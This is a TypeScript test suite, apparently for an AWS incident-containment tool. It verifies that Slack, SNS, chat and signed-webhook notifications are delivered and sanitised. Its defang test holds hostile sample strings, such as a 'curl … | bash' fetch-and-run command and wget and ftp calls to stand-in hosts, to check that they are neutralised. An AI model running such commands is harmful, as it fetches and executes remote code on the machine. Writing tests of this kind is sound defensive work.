import { createHmac } from "node:crypto";
import { expect } from "chai";
import fc from "fast-check";
import { channels } from "../../../functions/aws/channels";
import { probeSlack } from "../../../functions/aws/channels/slack";
import { tell } from "../../../functions/aws/people";
import { chatNotificationSchema, toChat } from "../../../functions/domain/channels/chat";
import { defang } from "../../../functions/domain/channels/defang";
import { toPlainText } from "../../../functions/domain/channels/plainText";
import { toWebhook } from "../../../functions/domain/channels/webhook";
import { isolationMessage } from "../../../functions/domain/messages/isolation";
import type { Message } from "../../../functions/domain/messages/message";
import * as hostile from "../../fixtures/analysis/hostile";
import * as plain from "../../fixtures/analysis/plain";
import { deployedNames } from "../../fixtures/analysis/deployedNames";
import { startNotifyingAws, type NotifyingAws } from "../../support/aws/notifyingAws";

const { incident, containment } = plain.custody;
const message = isolationMessage(incident, containment);
const secret = "a secret of some length";

describe("channels", () => {
    let fake: NotifyingAws;
    beforeEach(async () => {
        fake = await startNotifyingAws();
        process.env.NOTIFICATION_TOPIC_ARN = "arn:aws:sns:eu-west-1:111111111111:people";
        process.env.CHAT_TOPIC_ARN = "arn:aws:sns:eu-west-1:111111111111:chat";
        process.env.WEBHOOK_PARAMETER = "/mine/webhook";
        fake.ssm.parameters.set("/mine/webhook", JSON.stringify({ url: fake.slack.url.replace("/services/", "/hook/"), secret }));
    });
    afterEach(() => fake.stop());

    it("all carry one message, each in its own form", async () => {
        expect(await tell(message)).to.deep.equal(["slack", "topic", "chat", "webhook"]);
        expect(fake.sns.published.map(({ TopicArn }) => TopicArn.split(":").at(-1)).sort()).to.deep.equal(["chat", "people"]);
        const chat = JSON.parse(fake.sns.published.find(({ TopicArn }) => TopicArn.endsWith(":chat"))!.Message) as unknown;
        expect(chatNotificationSchema.parse(chat).metadata.threadId).to.equal(plain.incidentId);
        const [{ body, signature }] = fake.hooks as [{ body: string; signature: string }];
        const [, seconds, digest] = /^t=(\d+),v1=([0-9a-f]{64})$/.exec(signature)!;
        expect(digest).to.equal(createHmac("sha256", secret).update(`${seconds}.${body}`).digest("hex"));
        expect(Math.abs(Number(seconds) - Date.now() / 1000)).to.be.below(60);
        expect((JSON.parse(body) as { title: string }).title).to.equal(message.title);
    });

    it("offer buttons only where they are deployed", async () => {
        const contextOf = async () => {
            fake.sns.published.length = 0;
            await tell({ ...message, offers: ["approve", "release"] });
            const { Message: chat } = fake.sns.published.find(({ TopicArn }) => TopicArn.endsWith(":chat"))!;
            return Object.keys(chatNotificationSchema.parse(JSON.parse(chat)).metadata.additionalContext).filter((each) =>
                each.startsWith("Offers"),
            );
        };
        expect(await contextOf()).to.deep.equal([]);
        process.env.CHAT_ACTIONS = "true";
        expect(await contextOf()).to.deep.equal(["OffersApprove", "OffersRelease"]);
    });

    it("Slack is asked whether it would take a message, by what its parameter holds now, and a parameter that holds none is broken", async () => {
        const parameter = process.env.SLACK_WEBHOOK_PARAMETER!;
        await tell(message); // the function knows the URL from here on
        const told = fake.slack.payloads.length;
        fake.slack.answers.push({ status: 404 });
        expect(await probeSlack()).to.deep.include({ value: { status: 404, answer: "no_service" } });
        expect(fake.slack.payloads).to.have.length(told);
        fake.ssm.parameters.set(parameter, "http://example.net/services/x");
        expect(await probeSlack()).to.deep.equal({
            value: { status: null, answer: `The SSM parameter does not hold the https URL of a Slack webhook: ${parameter}.` },
        });
        fake.ssm.parameters.delete(parameter);
        expect(await probeSlack()).to.deep.equal({
            value: { status: null, answer: `The SSM parameter with the Slack webhook URL does not exist: ${parameter}.` },
        });
        process.env.SLACK_WEBHOOK_PARAMETER = "";
        expect(await probeSlack()).to.equal(null);
    });

    it("do not wait for one that fails for good", async () => {
        fake.hookAnswers.push(410);
        expect(await tell(message)).to.deep.equal(["slack", "topic", "chat"]);
        fake.ssm.parameters.set("/mine/webhook", "no JSON, and a secret in it");
        expect(await tell(message)).to.deep.equal(["slack", "topic", "chat"]);
        fake.ssm.parameters.delete("/mine/webhook");
        expect(await tell(message)).to.deep.equal(["slack", "topic", "chat"]);
        fake.ssm.parameters.set("/mine/webhook", JSON.stringify({ url: "http://example.net/x", secret }));
        expect(await tell(message)).to.deep.equal(["slack", "topic", "chat"]);
        expect(fake.hooks, "nothing goes over http").to.have.length(1);
    });

    it("tell all others before one is tried again", async () => {
        fake.hookAnswers.push(503);
        const error = await tell(message).then(
            () => null,
            (reason: Error) => reason,
        );
        expect(error?.name).to.equal("Transient");
        expect(error?.message).to.not.contain("/hook/");
        expect([fake.slack.payloads.length, fake.sns.published.length]).to.deep.equal([1, 2]);
    });

    it("do not count a topic that nobody is subscribed to", async () => {
        fake.sns.subscribers = 0;
        expect(await tell(message)).to.deep.equal(["slack", "webhook"]);
        expect(fake.sns.published).to.have.length(2);
    });

    it("tell also where what the deployment says of links cannot be read", async () => {
        for (const [name, value] of [
            ["IDENTITY_CENTER", "no JSON"],
            ["FORENSICS_ACCOUNT_ID", ""],
        ] as const) {
            process.env[name] = value;
            expect(await tell(message), name).to.deep.equal(["slack", "topic", "chat", "webhook"]);
        }
        expect(JSON.stringify(fake.slack.payloads[0])).to.contain("|Instance>");
    });

    it("ask for nothing where they are not configured", () => {
        const names = { ...deployedNames, slackWebhookParameterArn: null };
        const sids = channels.flatMap(({ permissions }) => permissions(names).map(({ Sid }) => Sid));
        expect(sids).to.deep.equal(["PublishNotification"]);
    });
});

describe("what channels make of a message", () => {
    const nasty = fc.oneof(fc.string({ unit: "binary", maxLength: 9000 }), fc.constantFrom(...hostile.payloads));
    const lists = fc.array(nasty, { maxLength: 40 });
    const messages: fc.Arbitrary<Message> = fc.record({
        tone: fc.constantFrom("danger", "warning", "neutral"),
        title: fc.constant("Contained: i-0a"),
        summary: nasty,
        whatWeDid: nasty,
        whatNow: lists,
        runbook: fc.constant("Contained"),
        facts: fc.array(fc.record({ label: fc.constantFrom("Incident", "Instance", "Account", "x"), value: nasty }), { maxLength: 20 }),
        sections: fc.array(fc.record({ heading: fc.constant("Heading"), items: lists }), { maxLength: 10 }),
        whole: fc.constant("in whole.json"),
        links: fc.constant([]),
    });

    it("is a custom notification within the limits, whatever it holds, that mentions nobody and links nowhere", () => {
        fc.assert(
            fc.property(messages, (each) => {
                for (const { content } of toChat(each, String).map((one) => chatNotificationSchema.parse(one))) {
                    const text = [content.title, content.description, ...content.nextSteps].join("\n");
                    expect(text).to.not.match(/<[@!#]|@|https?:\/\/|\]\(/);
                }
            }),
            { numRuns: 100 },
        );
    });

    it("keeps every instruction and every uncut path in chat, in this order", () => {
        const uncut = Array.from({ length: 12 }, (_, index) => `Endpoint vpce-${index}`);
        const [{ content }] = toChat(isolationMessage(incident, { ...containment!, contained: false, uncut }), String) as [
            ReturnType<typeof toChat>[number],
        ];
        expect(content.nextSteps[0]).to.contain("Contain it by hand now");
        for (const each of uncut) expect(content.description).to.contain(each);
    });

    it("is bounded and visible in the webhook, and says what it leaves out", () => {
        const many = {
            ...message,
            sections: [{ heading: "Details", items: Array.from({ length: 500 }, () => "a\u202Eb"), detail: true as const }],
        };
        const { sections } = toWebhook(many, "2026-11-20T03:31:00.000Z");
        expect(sections[0]!.leftOut).to.equal(300);
        expect(JSON.stringify(sections)).to.not.contain("\u202E");
    });

    it("leaves nothing in mail that a mail program would make a link of, and leaves what is no address as it is", () => {
        for (const [text, wanted] of [
            ["curl http://198.51.100.23/pe.sh | bash", "curl hxxp://198[.]51[.]100[.]23/pe.sh | bash"],
            ["https://evil.example/x?y=1.2", "hxxps://evil[.]example/x?y=1.2"],
            ["asks for c2.example.net.", "asks for c2[.]example[.]net."],
            ["/etc/ld.so.preload and kworkerd.service in /usr/lib/x.so", "/etc/ld.so.preload and kworkerd.service in /usr/lib/x.so"],
            ["com.amazonaws.eu-west-1.ssm", "com.amazonaws.eu-west-1.ssm"],
            ["version 1.2.3", "version 1.2.3"],
            ["out everything to 0.0.0.0/0, from 203.0.113.9", "out everything to 0.0.0.0/0, from 203.0.113.9"],
        ] as const)
            expect(defang(text)).to.equal(wanted);
        const { text } = toPlainText({ ...message, summary: "wget https://evil.example/a and ftp://1.2.3.4/b" });
        expect(text)
            .to.contain("hxxps://evil[.]example/a")
            .and.not.match(/https:\/\/evil|ftp:\/\/1/);
        for (const { url } of message.links) expect(text, "our own links work").to.contain(url);
    });
});
